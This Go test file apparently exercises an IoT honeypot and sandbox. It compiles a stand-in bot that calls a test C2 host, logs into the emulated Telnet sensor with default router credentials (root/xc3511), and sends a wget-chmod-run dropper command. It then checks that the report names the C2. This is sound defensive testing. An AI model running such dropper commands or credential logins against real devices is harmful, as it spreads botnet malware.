package app_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// crossSample builds a small Go program for a device CPU: it resolves and
// connects to a C2 name a few times, like a bot calling home.
func crossSample(t *testing.T, goarch string) []byte {
	t.Helper()
	dir := t.TempDir()
	src := filepath.Join(dir, "main.go")
	os.WriteFile(src, []byte(`package main

import (
	"net"
	"time"
)

func main() {
	for i := 0; i < 3; i++ {
		if c, err := net.DialTimeout("tcp", "cnc.kansoku-test.example:23", 2*time.Second); err == nil {
			c.Write([]byte("\x00\x00\x00\x01"))
			c.Close()
		}
		time.Sleep(200 * time.Millisecond)
	}
}
`), 0o600)
	out := filepath.Join(dir, "bot")
	cmd := exec.Command("go", "build", "-o", out, src)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GOOS=linux", "GOARCH="+goarch, "CGO_ENABLED=0", "GOFLAGS=")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build sample: %v\n%s", err, b)
	}
	b, _ := os.ReadFile(out)
	return b
}

// expectText reads (ignoring Telnet option bytes) until want appears.
func expectText(t *testing.T, c net.Conn, r *bufio.Reader, want string) string {
	t.Helper()
	c.SetReadDeadline(time.Now().Add(30 * time.Second))
	var seen bytes.Buffer
	for !strings.Contains(seen.String(), want) {
		b, err := r.ReadByte()
		if err != nil {
			t.Fatalf("waiting for %q: %v; got %q", want, err, seen.String())
		}
		if b == 0xff { // IAC: skip the command and its option
			cmd, _ := r.ReadByte()
			if cmd == 250 { // subnegotiation until IAC SE
				for {
					x, _ := r.ReadByte()
					if x == 0xff {
						if y, _ := r.ReadByte(); y == 240 {
							break
						}
					}
				}
			} else if cmd >= 251 && cmd <= 254 {
				r.ReadByte()
			}
			continue
		}
		seen.WriteByte(b)
	}
	return seen.String()
}

// TestIoTCaptureToReport: a bot logs in over Telnet, downloads its binary
// with wget and runs it; the sample is stored, analysed in the sandbox on the
// same device, and its report (with the C2 it called) is served by the API.
func TestIoTCaptureToReport(t *testing.T) {
	bot := crossSample(t, "mipsle")
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write(bot) }))
	defer web.Close()
	cfg := testConfig(t, `  telnet:
    listen: 127.0.0.1:0
    profile: router-mipsel
capture:
  allow_networks: [127.0.0.0/8]
analysis:
  workers: 1
  timeout: 10s
  reboot: false
`)
	s := cfg.Sensors["telnet"]
	tr := true
	s.Enabled = &tr
	cfg.Sensors["telnet"] = s
	r := start(t, cfg)
	c, err := net.Dial("tcp", r.listeners["telnet"])
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	br := bufio.NewReader(c)
	expectText(t, c, br, "ogin:")
	fmt.Fprint(c, "root\r\n")
	expectText(t, c, br, "assword:")
	fmt.Fprint(c, "xc3511\r\n")
	expectText(t, c, br, "#")
	captured := time.Now()
	fmt.Fprintf(c, "cd /tmp; wget %s/bins/x.mpsl -O x; chmod 777 x; ./x; echo DONE\r\n", web.URL)
	expectText(t, c, br, "DONE")
	fmt.Fprint(c, "exit\r\n")

	portal := "http://" + r.listeners["http"]
	deadline := time.Now().Add(3 * time.Minute)
	var sha string
	for sha == "" {
		var page struct {
			Events []struct {
				Data map[string]any `json:"data"`
			} `json:"events"`
		}
		getJSON(t, portal+"/api/v1/events?kind=sample.captured", &page)
		if len(page.Events) > 0 {
			sha, _ = page.Events[0].Data["sha256"].(string)
			if p, _ := page.Events[0].Data["profile"].(string); p != "router-mipsel" {
				t.Errorf("sample.captured profile = %q", p)
			}
		}
		if time.Now().After(deadline) {
			t.Fatal("no sample captured")
		}
		time.Sleep(100 * time.Millisecond)
	}
	for {
		var body map[string]any
		code := getJSON(t, portal+"/api/v1/samples/"+sha, &body)
		b, _ := json.Marshal(body)
		if code == 200 && strings.Contains(string(b), `"done"`) {
			if !strings.Contains(string(b), "cnc.kansoku-test.example") {
				t.Fatalf("report lacks the C2 name: %.2000s", b)
			}
			t.Logf("report stored %.1f s after the download", time.Since(captured).Seconds())
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no finished report: %d %.1000s", code, b)
		}
		time.Sleep(250 * time.Millisecond)
	}
}
